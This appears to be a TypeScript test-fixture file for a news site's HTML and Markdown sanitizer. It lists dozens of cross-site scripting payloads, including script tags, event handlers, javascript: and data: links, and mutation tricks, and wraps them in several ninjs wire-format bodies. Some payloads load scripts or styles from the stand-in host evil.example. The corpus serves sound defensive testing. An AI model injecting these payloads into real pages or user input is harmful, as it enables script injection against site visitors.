/**
 * Payloads that try to run script, load from another host or reshape the page,
 * for the sanitizer's tests (src/html/hostile-corpus.test.ts) and the browser
 * test that builds a site from them (e2e/hostile.spec.ts). Each one, if it ran,
 * would call `alert()`, set `window.__pwned` or make a request to evil.example.
 */

export interface HostileCase {
  name: string;
  /** A story body (Markdown, raw HTML allowed) that holds the payload. */
  body: string;
  /** True when the payload is HTML a wire body could carry too. */
  html: boolean;
  /** False for markup that is allowed as it is, its payload only text in an attribute. */
  removed?: false;
}

const html = (name: string, payload: string): HostileCase => ({ name, body: `Before the payload.\n\n${payload}\n\nAfter the payload.\n`, html: true });
const markdown = (name: string, payload: string): HostileCase => ({ name, body: `Before the payload.\n\n${payload}\n\nAfter the payload.\n`, html: false });

export const HOSTILE_CASES: readonly HostileCase[] = [
  html("script", "<script>window.__pwned = 'script'</script>"),
  html("script from another host", '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
  html("script split by a tag", "<scr<script>ipt>window.__pwned = 'split'</scr</script>ipt>"),
  html("style with an import", "<style>@import 'https://evil.example/x.css'; body { display: none }</style>"),
  html("unquoted handler", "<img src=x onerror=alert('unquoted')>"),
  html("quoted handler on a real image", '<img src="/images/ballot-box.jpg" alt="Ballot box" onload="window.__pwned = \'onload\'">'),
  html("single-quoted handler", "<p onmouseover='alert(1)' onclick='alert(1)'>Hover</p>"),
  html("handler after a slash", "<img/src=x/onerror=alert('slash')>"),
  html("body onload", "<body onload=\"window.__pwned = 'body'\">"),
  html("javascript: link", '<a href="javascript:alert(\'js\')">Click</a>'),
  html("JavaScript: in mixed case", '<a href="JaVaScRiPt:alert(1)">Click</a>'),
  html("javascript: with an entity", '<a href="&#106;avascript:alert(1)">Click</a>'),
  html("javascript: with a tab entity", '<a href="jav&#x09;ascript:alert(1)">Click</a>'),
  html("javascript: after spaces and a newline", '<a href=" \n javascript:alert(1)">Click</a>'),
  html("javascript: with a hex colon", '<a href="javascript&#x3A;alert(1)">Click</a>'),
  html("data: link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>'),
  html("vbscript: link", '<a href="vbscript:msgbox(1)">Click</a>'),
  html("data: image", '<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E" alt="x">'),
  html("iframe with javascript:", '<iframe src="javascript:alert(\'iframe\')"></iframe>'),
  html("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe>"),
  html("object", '<object data="https://evil.example/x.swf"></object>'),
  html("embed element", '<embed src="https://evil.example/x.swf">'),
  html("form", '<form action="https://evil.example/"><input name="q" autofocus onfocus="alert(1)"><button>Go</button></form>'),
  html("base", '<base href="https://evil.example/">'),
  html("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  html("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
  html("svg onload", "<svg onload=\"window.__pwned = 'svg'\"></svg>"),
  html("svg script", "<svg><script>window.__pwned = 'svg script'</script></svg>"),
  html("svg link", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">Click</text></a></svg>'),
  html("mathml style comment", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert('mathml')&gt;\">"),
  html("mathml href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
  html("comment hiding a tag", "<!--<img src=x onerror=alert('comment')>-->"),
  html("broken comment", "<!--><img src=x onerror=alert('broken comment')>-->"),
  html("cdata", "<![CDATA[<img src=x onerror=alert('cdata')>]]>"),
  { ...html("quote in an attribute entity", '<img src="/images/ballot-box.jpg" alt="&quot; onerror=&quot;alert(1)">'), removed: false },
  { ...html("title escaping trick", '<a href="https://example.org/" title="x&quot; onmouseover=&quot;alert(1)">Link</a>'), removed: false },
  html("noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>"></noscript>'),
  html("details ontoggle", "<details open ontoggle=\"window.__pwned = 'toggle'\"><summary>S</summary></details>"),
  html("video source onerror", "<video><source onerror=\"window.__pwned = 'video'\"></video>"),
  html("template", "<template><img src=x onerror=alert('template')></template>"),
  html("style attribute", '<p style="background:url(https://evil.example/bg.png)">Styled</p>'),
  html("image from another host", '<img src="https://evil.example/pixel.png" alt="Pixel">'),
  html("protocol-relative image", '<img src="//evil.example/pixel.png" alt="Pixel">'),
  markdown("Markdown javascript: link", "[Click](javascript:alert('md'))"),
  markdown("Markdown autolink", "<javascript:alert('autolink')>"),
  markdown("Markdown reference link", "[Click][ref]\n\n[ref]: javascript:alert('ref')"),
  markdown("Markdown data: link", "[Click](data:text/html,<script>alert(1)</script>)"),
  markdown("Markdown vbscript: link", "[Click](vbscript:msgbox(1))"),
  markdown("Markdown angle-bracket target", "[Click](<javascript:alert(1)>)"),
  markdown("Markdown entity in target", "[Click](&#106;avascript:alert(1))"),
  markdown("Markdown title escape", '[Click](https://example.org/ "x\\" onmouseover=\\"alert(1)")'),
  markdown("Markdown image from another host", "![Pixel](https://evil.example/pixel.png)"),
  markdown("Markdown javascript: image", "![Pixel](javascript:alert(1))"),
  markdown("Markdown link with raw HTML text", "[<img src=x onerror=alert('md text')>](https://example.org/)"),
  markdown("fact box with a hostile title", '{% factbox "\\"><script>window.__pwned = \'factbox\'</script>" %}\n- A fact.\n{% endfactbox %}'),
];

/** The HTML payloads as one wire body, for the ninjs versions. */
export function hostileWireHtml(): string {
  return HOSTILE_CASES.filter((c) => c.html)
    .map((c) => `<p>${c.name}:</p>\n${c.body.split("\n\n")[1] ?? ""}`)
    .join("\n");
}

/** The same body in each ninjs version and body form the importer reads. */
export function hostileNinjs(): { name: string; json: Record<string, unknown> }[] {
  const body = hostileWireHtml();
  const headline = "Wire <img src=x onerror=alert('headline')> headline";
  const common = { uri: "", type: "text", versioncreated: "2023-03-20T10:00:00Z", firstcreated: "2023-03-20T10:00:00Z" };
  const id = (name: string) => `urn:hostile:${name}`;
  return [
    { name: "ninjs-1-html", json: { ...common, uri: id("1-html"), headline, body_html: body, description_text: "Summary <script>alert(1)</script>" } },
    { name: "ninjs-1-xhtml", json: { ...common, uri: id("1-xhtml"), headline, body_xhtml: body } },
    { name: "ninjs-1-text", json: { ...common, uri: id("1-text"), headline, body_text: "<script>window.__pwned = 'text'</script>\n\nPlain text." } },
    { name: "ninjs-2-html", json: { ...common, uri: id("2-html"), headlines: [{ role: "main", value: headline }], bodies: [{ role: "main", contenttype: "text/html", value: body }] } },
    {
      name: "ninjs-2-nitf",
      json: { ...common, uri: id("2-nitf"), headlines: [{ value: headline }], bodies: [{ contenttype: "application/nitf+xml", value: `<nitf><body><body.content>${body}</body.content></body></nitf>` }] },
    },
    {
      name: "ninjs-3-html",
      json: {
        uri: id("3-html"),
        type: "text",
        versionCreated: "2023-03-20T10:00:00Z",
        firstCreated: "2023-03-20T10:00:00Z",
        headlines: [{ role: "main", value: headline, contentType: "text/html" }],
        bodies: [{ role: "main", contentType: "application/xhtml+xml", value: body }],
      },
    },
  ];
}
